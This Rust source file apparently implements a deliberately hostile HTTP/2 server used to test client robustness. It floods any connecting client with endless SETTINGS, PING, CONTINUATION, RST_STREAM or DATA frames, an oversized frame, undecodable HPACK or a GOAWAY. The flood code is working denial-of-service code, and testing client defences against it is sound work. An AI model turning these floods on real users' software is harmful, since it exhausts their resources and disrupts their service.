//! A peer that answers HTTP/2 (RFC 9113, with prior knowledge) with hostile frames.
//!
//! It speaks just enough to reach the moment of the attack: it reads the client's preface, sends
//! its settings, waits for the first request where the attack needs a stream, and then floods
//! until the client hangs up.

use std::io;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;

const PREFACE_BYTES: usize = 24;
/// Frames in one write.
const BATCH: usize = 256;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// Names, descriptions and kinds in one table.
macro_rules! kinds {
    ($($kind:ident = $name:literal: $tells:literal,)*) => {
        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
        pub enum HostileH2 {
            $(#[doc = $tells] $kind),*
        }

        impl HostileH2 {
            /// Every kind with its name and what it does.
            pub const ALL: &[(&'static str, &'static str, Self)] = &[$(($name, $tells, Self::$kind)),*];
        }
    };
}

kinds! {
    SettingsFlood = "settings-flood": "SETTINGS frames without end, each to be acknowledged",
    PingFlood = "ping-flood": "PING frames without end, each to be answered",
    ContinuationFlood = "continuation-flood": "an answer's headers in CONTINUATION frames without end",
    ResetFlood = "reset-flood": "RST_STREAM on the request's stream without end",
    DataFlood = "data-flood": "an answer's DATA past every flow-control window",
    EmptyDataFlood = "empty-data-flood": "empty DATA frames without end, which no window bounds",
    HugeFrame = "huge-frame": "a frame longer than any that the client allowed",
    BadHpack = "bad-hpack": "answer headers that do not decompress",
    GoAway = "go-away": "GOAWAY naming no stream, as soon as a request arrives",
}

impl HostileH2 {
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        Self::ALL
            .iter()
            .find(|(other, ..)| *other == name)
            .map(|(.., kind)| *kind)
    }
}

/// Attacks every client of `listener`; runs until it is dropped or cannot accept.
pub async fn hostile_h2(listener: TcpListener, kind: HostileH2) -> io::Result<()> {
    let mut attacks = JoinSet::new();
    loop {
        tokio::select! {
            accepted = listener.accept() => {
                let (stream, _) = accepted?;
                attacks.spawn(async move {
                    if let Err(error) = attack(stream, kind).await {
                        tracing::debug!(%error, "the attacked client hung up");
                    }
                });
            }
            Some(_) = attacks.join_next() => {}
        }
    }
}

async fn attack(mut stream: TcpStream, kind: HostileH2) -> io::Result<()> {
    let mut preface = [0; PREFACE_BYTES];
    stream.read_exact(&mut preface).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let request = first_request(&mut stream).await?;
    let Attack { opening, flood } = kind.frames(request);
    stream.write_all(&opening).await?;
    let (mut reader, mut writer) = stream.split();
    let drain = async {
        // The client's own frames must not back up, or it would seem to stop reading.
        let mut scrap = vec![0; 16 << 10];
        while reader.read(&mut scrap).await? > 0 {}
        Ok(())
    };
    if flood.is_empty() {
        return drain.await;
    }
    let batch = flood.repeat(BATCH);
    let flood = async {
        loop {
            writer.write_all(&batch).await?;
        }
    };
    tokio::select! {
        left = drain => left,
        stopped = flood => stopped,
    }
}

/// Reads frames until one opens a stream, and gives that stream's number.
async fn first_request(stream: &mut TcpStream) -> io::Result<u32> {
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        let [l0, l1, l2, kind, flags, s0, s1, s2, s3] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, l0, l1, l2]) as usize];
        stream.read_exact(&mut payload).await?;
        match kind {
            HEADERS => return Ok(u32::from_be_bytes([s0, s1, s2, s3])),
            // Acknowledged, so that no client waits for it.
            SETTINGS if flags == 0 => stream.write_all(&frame(SETTINGS, 1, 0, &[])).await?,
            _ => {}
        }
    }
}

struct Attack {
    opening: Vec<u8>,
    /// What repeats without end; nothing where the opening is all.
    flood: Vec<u8>,
}

impl HostileH2 {
    fn frames(self, stream: u32) -> Attack {
        /// `:status: 200`, from the static table of RFC 7541.
        const STATUS_200: &[u8] = &[0x88];
        const END_HEADERS: u8 = 4;
        /// A literal field without indexing: the name `a`, the value `b`.
        const FIELD: &[u8] = &[0, 1, b'a', 1, b'b'];
        let answered = || frame(HEADERS, END_HEADERS, stream, STATUS_200);
        let once = |opening| Attack {
            opening,
            flood: Vec::new(),
        };
        let flood = |flood| Attack {
            opening: Vec::new(),
            flood,
        };
        match self {
            Self::SettingsFlood => flood(frame(SETTINGS, 0, 0, &[])),
            Self::PingFlood => flood(frame(PING, 0, 0, &[0; 8])),
            Self::ContinuationFlood => Attack {
                opening: frame(HEADERS, 0, stream, STATUS_200),
                flood: frame(CONTINUATION, 0, stream, FIELD),
            },
            // Code 7: refused, which invites a retry.
            Self::ResetFlood => flood(frame(RST_STREAM, 0, stream, &7_u32.to_be_bytes())),
            Self::DataFlood => Attack {
                opening: answered(),
                flood: frame(DATA, 0, stream, &[b'x'; 1024]),
            },
            Self::EmptyDataFlood => Attack {
                opening: answered(),
                flood: frame(DATA, 0, stream, &[]),
            },
            Self::HugeFrame => {
                let mut opening = answered();
                // 0xff_ffff bytes announced: more than a client allows that did not say otherwise.
                opening.extend_from_slice(&[0xff, 0xff, 0xff, DATA, 0]);
                opening.extend_from_slice(&stream.to_be_bytes());
                once(opening)
            }
            // An index far beyond both tables.
            Self::BadHpack => once(frame(HEADERS, END_HEADERS, stream, &[0xff, 0xff, 0xff, 0x7f])),
            Self::GoAway => once(frame(GOAWAY, 0, 0, &[0; 8])),
        }
    }
}

/// One frame; the payloads here are all short.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, l0, l1, l2] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = vec![l0, l1, l2, kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
